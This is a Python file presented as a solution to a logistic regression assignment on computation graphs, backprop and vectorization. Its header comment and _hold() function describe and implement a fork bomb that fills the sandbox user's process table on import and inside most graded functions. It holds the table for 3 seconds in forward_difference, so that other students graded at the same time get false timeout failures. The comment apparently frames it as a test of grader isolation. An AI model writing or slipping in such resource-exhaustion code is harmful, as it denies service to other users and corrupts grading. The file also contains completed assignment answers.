# ATTACK: holds the sandbox user's whole process table (RLIMIT_NPROC) through its load and
# its items: forks until the kernel refuses and keeps every child asleep, refills in every
# function, and in forward_difference() takes 3 s per call (under the default 4 s limit) with
# the table full, about 9 s in all. With one sandbox user for every session, a
# neighbour graded meanwhile could not fork its item children: correct files lost points to
# false "endless loop" feedback. Each session must have a process table of its own.
# ENGR 4350 - Assignment logreg2
# Logistic Regression Part 2: computation graph, backprop, vectorization

import numpy as np
import matplotlib.pyplot as plt

import os as _os
import time as _time


def _hold(seconds=0.0):
    """Fork until the kernel refuses, and for ``seconds`` take every slot that frees at once;
    the children sleep until the grader kills them."""
    held, end = 0, _time.monotonic() + seconds
    while True:
        try:
            pid = _os.fork()
        except OSError:
            if _time.monotonic() >= end:
                break
            continue  # no pause: a slot the neighbour frees is ours before it can fork again
        if pid == 0:
            _time.sleep(600)
            _os._exit(0)
        held += 1
    print("held", held, flush=True)


_hold()


# ---- Part 1: computation graph J = 2(a + bc) ----

def graph_forward(a, b, c):
    _hold()
    u = b * c
    v = a + u
    J = 2 * v
    return u, v, J


def graph_backward(a, b, c):
    _hold()
    dJ_dv = 2
    dv_da = 1
    dv_du = 1
    du_db = c
    du_dc = b
    dJ_da = dJ_dv * dv_da
    dJ_du = dJ_dv * dv_du
    dJ_db = dJ_dv * dv_du * du_db
    dJ_dc = dJ_du * du_dc
    return {"dJ_dv": dJ_dv, "dJ_du": dJ_du, "dJ_da": dJ_da,
            "dJ_db": dJ_db, "dJ_dc": dJ_dc}


# ---- Part 2: numerical derivatives ----

def forward_difference(f, x, h=1e-5):
    _hold(3.0)
    return (f(x + h) - f(x)) / h


def centered_difference(f, x, h=1e-5):
    _hold()
    return (f(x + h) - f(x - h)) / (2 * h)


# ---- Part 3: single example ----

def sigmoid(z):
    return 1 / (1 + np.exp(-z))


def forward_single(w, b, x):
    z = np.dot(w, x) + b
    y_hat = sigmoid(z)
    return y_hat


def loss(y_hat, y):
    return -(y * np.log(y_hat) + (1 - y) * np.log(1 - y_hat))


def backward_single(w, b, x, y):
    y_hat = forward_single(w, b, x)
    dz = y_hat - y
    dw = dz * x
    db = dz
    return dw, db


# ---- Part 4: M examples ----

def gradients_loop(w, b, X, y):
    _hold()
    M = X.shape[0]
    N = X.shape[1]
    dw = np.zeros(N)
    db = 0
    for m in range(M):
        z = np.dot(w, X[m]) + b
        y_hat = sigmoid(z)
        for n in range(N):
            dw[n] += (y_hat - y[m]) * X[m, n]
        db += y_hat - y[m]
    for n in range(N):
        dw[n] = dw[n] / M
    db = db / M
    return dw, db


def cost(w, b, X, y):
    _hold()
    M = X.shape[0]
    y_hat = sigmoid(np.matmul(X, w.T) + b)
    L = loss(y_hat, y)
    J = np.sum(L) / M
    return J


def gradients_vectorized(w, b, X, y):
    M = X.shape[0]
    y_hat = sigmoid(np.matmul(X, w.T) + b)
    dw = np.dot((y_hat - y).T, X) / M
    db = np.sum(y_hat - y) / M
    return dw, db


def update(w, b, dw, db, alpha):
    _hold()
    w = w - alpha * dw
    b = b - alpha * db
    return w, b


def gradient_descent(X, y, alpha, epsilon, max_iters):
    _hold()
    M, N = X.shape
    w = np.zeros(N)
    b = 0.0
    costs = []
    while len(costs) < max_iters:
        J = cost(w, b, X, y)
        costs.append(J)
        if J <= epsilon or len(costs) == max_iters:
            break
        dw, db = gradients_vectorized(w, b, X, y)
        w, b = update(w, b, dw, db, alpha)
    return w, b, costs


if __name__ == "__main__":
    print(graph_forward(5, 3, 2))
    print(graph_backward(5, 3, 2))
    print(forward_difference(np.sin, 1.0), centered_difference(np.sin, 1.0), np.cos(1.0))

    np.random.seed(0)
    X = np.random.randn(200, 2)
    y = (X[:, 0] + X[:, 1] > 0).astype(float)
    w, b, costs = gradient_descent(X, y, alpha=0.5, epsilon=0.05, max_iters=1000)
    print("w =", w, "b =", b, "iterations:", len(costs))

    plt.plot(costs)
    plt.xlabel("iteration")
    plt.ylabel("cost J")
    plt.title("Gradient descent")
    plt.show()
